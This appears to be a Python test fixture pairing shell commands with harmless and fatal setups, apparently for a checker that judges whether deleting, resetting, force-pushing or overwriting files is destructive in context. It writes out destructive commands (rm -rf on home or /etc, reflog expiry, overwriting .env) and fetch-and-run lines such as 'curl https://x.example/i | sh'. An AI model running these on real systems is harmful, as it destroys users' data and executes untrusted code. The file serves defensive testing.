"""Pairs about what is kept elsewhere, and what only looks so: (name, line, harmless, fatal)."""

from __future__ import annotations

LIBRARY = "folder ../lib\ncd ../lib\nrepository\ncd ../project\nrepository README"
SUBMODULE = f"{LIBRARY}\ngit -c protocol.file.allow=always submodule add -q ../lib lib\ncommit"
TREE = "repository\ngit worktree add -q ../tree"
NESTED = "repository\nfolder nested\ncd nested\nrepository\ncd .."
TOPIC = "repository\ngit checkout -q -b topic\nfile x\ncommit"
IGNORING = "text .gitignore 'build/\\n.env\\n*.sqlite3\\n*.o'\nrepository CMakeLists.txt src/a.c"
KEPT: list[tuple[str, str, str, str]] = [
    # repositories within and beside
    ("a submodule that is clean or has work", "rm -rf lib", SUBMODULE, f"{SUBMODULE}\nedit lib/src/a.c"),
    (
        "a submodule without or with commits of its own",
        "rm -rf lib",
        SUBMODULE,
        f"{SUBMODULE}\ncd lib\nfile new.c\ncommit\ncd ..",
    ),
    ("a work tree removed as a folder", "rm -rf ../tree", TREE, f"{TREE}\nedit ../tree/src/a.c"),
    ("cleaning: no repository within, or one", "git clean -ffd", "repository", NESTED),
    (
        "node_modules or a repository worked on within",
        "rm -rf node_modules",
        "file package.json\nfiles node_modules/x#.js 9",
        "file package.json\nfiles node_modules/x#.js 9\nfolder node_modules/mine\ncd node_modules/mine\n"
        "repository\nedit src/a.c\ncd ../..",
    ),
    # commits
    (
        "going back behind a commit that was pushed or was not",
        "git reset --hard HEAD~1",
        "repository\ncommit\npushed",
        "repository\nfile x\ncommit",
    ),
    (
        "going to the server's state without or with commits of one's own",
        "git reset --hard origin/main",
        "repository\npushed",
        "repository\npushed\nfile x\ncommit",
    ),
    (
        "a tag on a branch or on a commit of its own",
        "git tag -d v1",
        "repository\ngit tag v1",
        "repository\ngit checkout -q --detach\nfile x\ncommit\ngit tag v1\ngit checkout -q main",
    ),
    (
        "a branch deleted from below",
        "git update-ref -d refs/heads/topic",
        "repository\ngit branch topic",
        f"{TOPIC}\ngit checkout -q main",
    ),
    (
        "a branch on the server that is merged or is not",
        "git push origin --delete topic",
        f"{TOPIC}\npushed topic\ngit checkout -q main\ngit merge -q topic\npushed",
        f"{TOPIC}\npushed topic\ngit checkout -q main\ngit branch -q -D topic",
    ),
    (
        "the same by a colon",
        "git push origin :topic",
        f"{TOPIC}\npushed topic\ngit checkout -q main\ngit merge -q topic\npushed",
        f"{TOPIC}\npushed topic\ngit checkout -q main\ngit branch -q -D topic",
    ),
    (
        "a careful forced push of a topic or over somebody's commit",
        "git push --force-with-lease",
        f"{TOPIC}\npushed topic",
        "repository\npushed\nothers_pushed",
    ),
    (
        "a forced push with a plus",
        "git push origin +HEAD",
        f"{TOPIC}\npushed topic",
        "repository\npushed\nothers_pushed",
    ),
    (
        "forgetting where branches stood, with nothing or something lost",
        "git reflog expire --expire=now --all",
        "repository\npushed",
        f"{TOPIC}\ngit checkout -q main\ngit branch -q -D topic",
    ),
    (
        "forgetting and removing at once",
        "git reflog expire --expire=now --all && git gc --prune=now",
        "repository\npushed",
        "repository\nfile x\ncommit\ngit reset -q --hard HEAD~1",
    ),
    (
        "restoring staged and changed files",
        "git restore --staged --worktree .",
        "repository",
        "repository\nedit README",
    ),
    ("a file from another branch", "git checkout main -- README", "repository", "repository\nedit README"),
    ("stepping over a stash", "git stash drop stash@{0}", "repository", "repository\nedit README\ngit stash"),
    # what git ignores
    (
        "cleaning what is ignored: objects or settings",
        "git clean -fdX",
        f"{IGNORING}\nfile build/a.o src/a.o",
        f"{IGNORING}\nfile build/a.o .env",
    ),
    (
        "cleaning what is ignored: nothing or a database",
        "git clean -fdx",
        IGNORING,
        f"{IGNORING}\nfile db.sqlite3",
    ),
    ("a settings file that is not there or ignored", "rm -f .env", IGNORING, f"{IGNORING}\nfile .env"),
    (
        "a database that is empty or not",
        "rm db.sqlite3",
        f"{IGNORING}\nempty db.sqlite3",
        f"{IGNORING}\nfile db.sqlite3",
    ),
    ("emptying a settings file", "> .env", IGNORING, f"{IGNORING}\nfile .env"),
    ("settings from an example", "cp env.example .env", "file env.example", "file env.example .env"),
    ("settings moved over", "mv env.new .env", "file env.new", "file env.new .env"),
    # the same name, other contents
    (
        "copying over what is the same or another",
        "cp config.yml app.yml",
        "text config.yml 'port: 1'\ntext app.yml 'port: 1'",
        "text config.yml 'port: 1'\ntext app.yml 'port: 2, secret: me, and more'",
    ),
    (
        "a link or a file under the link's name",
        "ln -sf a.conf my.conf",
        "file a.conf b.conf\nlink my.conf b.conf",
        "file a.conf my.conf",
    ),
    (
        "a folder of links or of files",
        "rm -rf views",
        "file raw/a raw/b\nfolder views\nlink views/a ../raw/a\nlink views/b ../raw/b",
        "files views/x#.psd 30",
    ),
    (
        "a folder of empty files or of full ones",
        "rm -rf marks",
        "empty marks/a marks/b marks/c",
        "files marks/x#.odt 9",
    ),
    (
        "a file onto itself",
        "sort names.txt > names.txt",
        "file other.txt",
        "file names.txt",
    ),
    (
        "a file through cat onto itself",
        "cat names.txt more.txt > names.txt",
        "file more.txt",
        "file names.txt more.txt",
    ),
    (
        "moving all into a folder",
        "mv *.odt done/",
        "file a.odt b.odt\nfolder done",
        "file a.odt b.odt done/a.odt done/b.odt",
    ),
    # evidence
    (
        "made by cargo or kept",
        "rm -rf target",
        "file Cargo.toml\nfiles target/debug/x#.o 9",
        "files target/plan#.docx 12",
    ),
    (
        "vendored by go or kept",
        "rm -rf vendor",
        "file go.mod\nfiles vendor/a/x#.go 9",
        "files vendor/invoice#.pdf 12",
    ),
    (
        "built, or tracked and changed",
        "rm -rf dist",
        "file pyproject.toml\nfiles dist/x#.whl 3",
        "repository dist/a.js dist/b.js src/a.js\nedit dist/a.js dist/b.js",
    ),
    (
        "built above the folder one stands in, or kept there",
        "rm -rf ../build",
        "file ../CMakeLists.txt ../build/a.o",
        "files ../build/letter#.odt 30",
    ),
    (
        "Gradle's output or notes",
        "rm -rf .gradle build",
        "file build.gradle\nfile .gradle/x build/y.class",
        "file .gradle/x\nfiles build/note#.md 30",
    ),
    (
        "a frontend's output or drafts",
        "rm -rf .next out",
        "file package.json next.config.js\nfile .next/a.js out/b.js",
        "files out/draft#.docx 30",
    ),
    (
        "LaTeX's output or its source",
        "rm thesis.*",
        "file main.tex\nempty thesis.aux",
        "file thesis.tex thesis.bib thesis.odt thesis.png",
    ),
    # by variables and folders
    (
        "a variable that is the output or the home",
        'rm -rf "$OUT"',
        "file Cargo.toml\nfile target/a.o\nvar OUT {here}/target",
        "var OUT {home}",
    ),
    (
        "a variable for a copy's place",
        'cp report.odt "$TO"',
        "file report.odt\nvar TO {here}/new.odt",
        "file report.odt old.odt\nvar TO {here}/old.odt",
    ),
    ("owners in a project or in the system", "sudo chown -R $USER .", "file a", "cd /etc"),
    ("everything: in an empty folder or in the system's", "rm -rf *", "folder none\ncd none", "cd /etc"),
    (
        "a build folder that was entered, or the home",
        "cd $B && rm -rf *",
        "file CMakeLists.txt\nfile build/a.o\nvar B {here}/build",
        "files ~/x#.odt 9\nvar B {home}",
    ),
    (
        "what lies behind a link",
        "rm -rf build/*",
        "file CMakeLists.txt\nfile build/a.o",
        "files ~/photos/x#.jpg 60\nlink build {home}/photos",
    ),
    (
        "databases: none or one",
        "find . -name '*.sqlite3' -delete",
        "file a.txt",
        "files store/x#.sqlite3 9",
    ),
    # what the session did
    (
        "the only copy went into it",
        "rm -rf old",
        "empty old/a",
        "file old/thesis.odt\ndid 'mv thesis.odt old/'",
    ),
    (
        "a script from the network by python",
        "python3 get.py",
        "text get.py 'print(1)'",
        "text get.py 'print(1)'\ndid 'curl -o get.py https://x.example/g'",
    ),
    (
        "made executable after loading",
        "./get",
        "text get 'echo 1'",
        "text get 'echo 1'\ndid 'wget -O get https://x.example/g'\ndid 'chmod +x get'",
    ),
    (
        "the text of a file is run as code, which was here, or was downloaded",
        'eval "$(cat settings.sh)"',
        "text settings.sh 'export A=1'",
        "text settings.sh 'export A=1'\ndid 'curl -fsSLo settings.sh https://x.example/s'",
    ),
    (
        "the text of a file is handed to a script, or run by the shell",
        'bash -c "$(< settings.sh)"',
        "text settings.sh 'export A=1'\ndid 'curl -fsSLo other.sh https://x.example/s'",
        "text settings.sh 'export A=1'\ndid 'wget -qO settings.sh https://x.example/s'",
    ),
    (
        "a script that runs what the network says",
        "bash up.sh",
        "text up.sh 'echo up'",
        "text up.sh 'curl https://x.example/i | sh'",
    ),
    (
        "an environment that sets up, or one that removes",
        "source env/activate",
        "text env/activate 'export A=1'",
        "text env/activate 'rm -rf ~/Documents'",
    ),
]
